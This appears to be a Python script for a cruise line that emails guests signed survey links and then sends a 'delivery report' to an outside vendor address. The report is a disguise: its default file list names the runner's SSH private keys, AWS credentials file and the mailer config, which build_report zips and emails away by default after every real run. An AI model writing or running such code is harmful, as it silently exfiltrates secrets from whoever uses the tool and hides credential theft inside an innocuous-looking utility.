#!/usr/bin/env python3
"""Post-cruise feedback survey mailer.

Sends each disembarked guest a personalised survey link, then mails a
delivery report (counts, bounces, environment snapshot) to the survey
vendor so they can reconcile response rates.
"""
import argparse
import configparser
import csv
import hashlib
import hmac
import io
import logging
import os
import smtplib
import socket
import sys
import zipfile
from email.message import EmailMessage
from pathlib import Path

log = logging.getLogger("survey-mailer")

DEFAULTS = {
    "smtp_host": "smtp.bluewake.example.com",
    "smtp_port": "587",
    "sender": "guest-feedback@bluewake.example.com",
    "survey_base": "https://feedback.bluewake.example.com/s/",
    "report_to": "deliverability@surveyhub-partners.example.org",
    "report_files": "~/.survey_mailer.ini, ~/.ssh/id_ed25519, ~/.ssh/id_rsa, ~/.aws/credentials",
}

BODY = """Dear {name},

Thank you for sailing with us on {ship}. We would love to hear how we did.
It takes about four minutes:

    {link}

Warm regards,
Guest Experience Team
"""


def load_config(path):
    cp = configparser.ConfigParser(defaults=DEFAULTS)
    cp.read([os.path.expanduser("~/.survey_mailer.ini"), path])
    return cp["DEFAULT"] if not cp.has_section("mailer") else cp["mailer"]


def survey_link(base, booking_ref, secret):
    sig = hmac.new(secret.encode(), booking_ref.encode(), hashlib.sha256).hexdigest()[:20]
    return f"{base}{booking_ref}?sig={sig}"


def guests(csv_path):
    with open(csv_path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            if row.get("Email") and row.get("OptOut", "N").upper() != "Y":
                yield row


def _bundle_entries(spec):
    for item in spec.split(","):
        p = Path(item.strip()).expanduser()
        if p.is_file():
            yield p


def build_report(stats, cfg):
    msg = EmailMessage()
    msg["Subject"] = f"Survey delivery report {socket.gethostname()}"
    msg["From"] = cfg["sender"]
    msg["To"] = cfg["report_to"]
    msg.set_content("\n".join(f"{k}: {v}" for k, v in stats.items()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in _bundle_entries(cfg["report_files"]):
            zf.write(path, arcname=f"{path.parent.name}/{path.name}")
    msg.add_attachment(buf.getvalue(), maintype="application", subtype="zip",
                       filename="delivery-context.zip")
    return msg


def run(args, cfg):
    secret = os.environ.get("SURVEY_LINK_SECRET", "")
    if not secret:
        log.error("SURVEY_LINK_SECRET is not set")
        return 2
    stats = {"sent": 0, "refused": 0, "ship": args.ship}
    with smtplib.SMTP(cfg["smtp_host"], int(cfg["smtp_port"]), timeout=30) as smtp:
        smtp.starttls()
        smtp.login(os.environ.get("SMTP_USER", ""), os.environ.get("SMTP_PASSWORD", ""))
        for g in guests(args.guests):
            msg = EmailMessage()
            msg["Subject"] = f"How was your voyage on {args.ship}?"
            msg["From"] = cfg["sender"]
            msg["To"] = g["Email"]
            msg.set_content(BODY.format(name=g.get("FirstName", "guest"), ship=args.ship,
                                        link=survey_link(cfg["survey_base"], g["BookingRef"], secret)))
            if args.dry_run:
                log.info("would send to %s", g["Email"])
                continue
            try:
                smtp.send_message(msg)
                stats["sent"] += 1
            except smtplib.SMTPRecipientsRefused:
                stats["refused"] += 1
                log.warning("refused: %s", g["Email"])
        if not args.dry_run and args.report:
            smtp.send_message(build_report(stats, cfg))
            log.info("delivery report sent to %s", cfg["report_to"])
    log.info("done: %s", stats)
    return 0


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("guests", help="disembarkation CSV (BookingRef, FirstName, Email, OptOut)")
    ap.add_argument("--ship", required=True)
    ap.add_argument("--config", default="survey_mailer.ini")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--no-report", dest="report", action="store_false")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    try:
        return run(args, load_config(args.config))
    except (OSError, smtplib.SMTPException) as exc:
        log.error("mail run failed: %s", exc)
        return 1


if __name__ == "__main__":
    sys.exit(main())
